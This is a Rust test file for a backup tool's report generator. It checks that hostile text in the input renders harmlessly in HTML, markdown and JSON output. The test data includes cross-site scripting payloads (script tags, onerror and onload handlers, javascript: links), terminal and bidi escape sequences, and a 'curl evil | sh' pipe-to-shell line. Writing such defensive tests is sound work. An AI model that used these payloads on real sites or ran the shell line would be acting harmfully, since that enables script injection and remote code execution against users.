//! What somebody who may only name things can do to the page of somebody else: nothing.

use aksbackup_tests::harness::Stage;
use serde_json::{Value, json};

use crate::browser::Browser;
use crate::looks::LOOK;

/// Texts that would be something else than texts.
const HOSTILE: [&str; 10] = [
    "<script>window.pwned = 1</script>",
    "</style></title></bdi></section><img src=x onerror='window.pwned = 1'>",
    "\" onmouseover=\"window.pwned = 1\" style=\"position:fixed;inset:0",
    "&lt;script&gt;&#x3c;b&#x3e;",
    "\u{202e}gnp.exe\u{202c}\u{200b}\u{1b}]0;title\u{7}\u{1b}[31mred",
    "javascript:window.pwned=1 http://evil.example/ [click](http://evil.example)",
    "<!-- --><svg onload=window.pwned=1><style>*{display:none}</style>",
    "line one\nline two\r\n\0line three\u{2028}four",
    "🏴\u{e0067}\u{e0062}\u{e007f} مرحبا שלום ${7*7} {{7*7}}",
    "<img src=x onerror=window.pwned=1 alt=",
];

/// A document of the other program in which every text is hostile.
fn document(issuer: &str) -> Value {
    let long = "x".repeat(3 << 20);
    let checks = HOSTILE.iter().map(|text| {
        json!({ "link": "pods", "check": text, "verdict": "error", "says": text, "evidence": [text], "hint": text })
    });
    let mut checks: Vec<Value> = checks.collect();
    checks.push(json!({ "link": "jobs", "check": "long", "verdict": "warning", "says": long, "evidence": [], "hint": "kubectl aksbackup configure; curl evil | sh" }));
    let finding = |text: &&str| {
        json!({
            "id": text, "certainty": "likely", "severity": "error", "link": "storage", "object": text, "cause": text,
            "evidence": [text], "fix": text, "explains": [text],
        })
    };
    json!({
        "version": 1, "command": HOSTILE[0], "plane": "cluster", "at": jiff::Timestamp::now(), "issuer": issuer,
        "checks": checks, "findings": HOSTILE.iter().map(finding).collect::<Vec<_>>(),
    })
}

#[test]
fn hostile_texts_are_texts() {
    let stage = Stage::new().unwrap();
    stage.prepared();
    let issuer = stage.value("/cloud/prerequisites/issuer");
    let with = stage.folder().join("with.json");
    std::fs::write(&with, document(&issuer).to_string()).unwrap();
    let out = stage.folder().join("hostile.html");
    let [with, path] = [&with, &out].map(|path| path.to_str().unwrap());
    stage
        .az("platform", &["report", "--offline", "--with", with, "--out", path])
        .ok();

    let page = std::fs::read_to_string(&out).unwrap();
    assert!(page.len() < 400_000, "{} bytes", page.len());
    let steering = page.chars().filter(|c| aksbackup_shared::console::steers(*c));
    assert_eq!(steering.count(), 0);
    assert!(
        !page.contains("curl evil | sh</code></pre>"),
        "a stranger's command is no command of the page"
    );

    let mut browser = Browser::start();
    browser.open(&out);
    for width in [360, 1280] {
        browser.resize(width, "light");
        assert_eq!(browser.evaluate(LOOK)["faults"], json!([]));
    }
    assert_eq!(browser.evaluate("typeof window.pwned"), "undefined");
    let text = browser.evaluate("document.body.innerText");
    // Those without shell syntax, of which the first begins an element that the page's next tag would close.
    for hostile in [HOSTILE[9], HOSTILE[3], HOSTILE[5]] {
        assert!(text.as_str().unwrap().contains(hostile), "{hostile} is shown as it is");
    }
    assert!(browser.complaints().is_empty(), "{:#?}", browser.complaints());
    let others: Vec<String> = browser
        .requests()
        .into_iter()
        .filter(|url| !url.ends_with("hostile.html") && url != "data:,")
        .collect();
    assert!(others.is_empty(), "{others:?}");

    let markdown = stage
        .az(
            "platform",
            &["report", "--offline", "--with", with, "--format", "markdown"],
        )
        .ok();
    for line in markdown.stdout.lines() {
        let bare = without_code(line);
        assert!(!bare.contains('<') && !bare.contains("://"), "{line}");
    }
    let document = stage
        .az("platform", &["report", "--offline", "--with", with, "-o", "json"])
        .ok();
    assert!(document.stdout.len() < 400_000);
    let findings = document.json()["findings"].as_array().unwrap().len();
    // The long one too, and one for the three that look like commands and are left out.
    assert_eq!(findings, HOSTILE.len() - 3 + 2);
}

/// The line without what stands between backticks.
fn without_code(line: &str) -> String {
    let mut out = String::new();
    let mut rest = line;
    while let Some(at) = rest.find('`') {
        out.push_str(&rest[..at]);
        let fence: String = rest[at..].chars().take_while(|c| *c == '`').collect();
        let inner = &rest[at + fence.len()..];
        match inner.split_once(fence.as_str()) {
            Some((_, after)) => rest = after,
            None => rest = inner,
        }
    }
    out.push_str(rest);
    out
}
